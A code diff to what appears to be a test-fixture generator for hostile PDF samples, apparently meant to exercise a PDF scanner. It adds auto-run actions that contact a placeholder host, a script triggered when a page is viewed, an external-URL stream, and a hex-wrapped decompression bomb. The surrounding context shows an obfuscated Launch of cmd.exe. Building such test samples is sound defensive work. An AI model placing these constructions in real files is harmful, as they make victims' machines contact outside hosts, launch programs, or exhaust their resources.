@@ -51,6 +51,16 @@ def active() -> Iterator[Hostile]:
         }
         for place, content in places.items():
             yield hostile(f"pdf with a {name} {place}", content, "active")
+    for kind in ("SubmitForm", "URI", "GoToR", "GoToE", "ImportData", "Rendition"):
+        content = pdf(catalog=b"/OpenAction << /S /%s /F (//10.0.0.1/x) >>" % kind.encode())
+        yield hostile(f"pdf with {kind} on opening", content, "active")
+    seen = b"/Annots [<< /Subtype /Widget /AA << /PO %s >> >>]" % SCRIPT
+    yield hostile("pdf with a script on sight", pdf(page=seen), "active")
+    elsewhere = stream(b"", "/F (http://contoh.id/x)")
+    page = b"/Contents 4 0 R"
+    yield hostile("pdf with a stream elsewhere", pdf(page=page, more=[elsewhere]), "active")
+    twice = pdf(catalog=b"/OpenAction [3 0 R /Fit] /OpenAction " + SCRIPT)
+    yield hostile("pdf with two things on opening", twice, "broken", "active")
     link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>]" % LAUNCH
     yield hostile("pdf with a link to a program", pdf(page=link), "active")
     spelled = pdf(catalog=b"/OpenAction << /#53 /L#61unch /F (cmd.exe) >>")
@@ -76,7 +86,10 @@ def swollen() -> Iterator[Hostile]:
     once = zlib.compress(bytes(300 << 20), 1)
     entries = "/Filter [/FlateDecode /FlateDecode]"
     contents = b"/Contents 4 0 R"
+    spelled = once.hex().encode() + b">"
+    spelled_entries = "/Filter [/ASCIIHexDecode /FlateDecode]"
     bombs = {
+        "a stream in hexadecimal": [stream(spelled, spelled_entries, packed=False)],
         "a stream of 300 MB": [stream(once, "/Filter /FlateDecode", packed=False)],
         "a stream packed twice": [stream(zlib.compress(once), entries, packed=False)],
         "streams of 1.2 GB": [
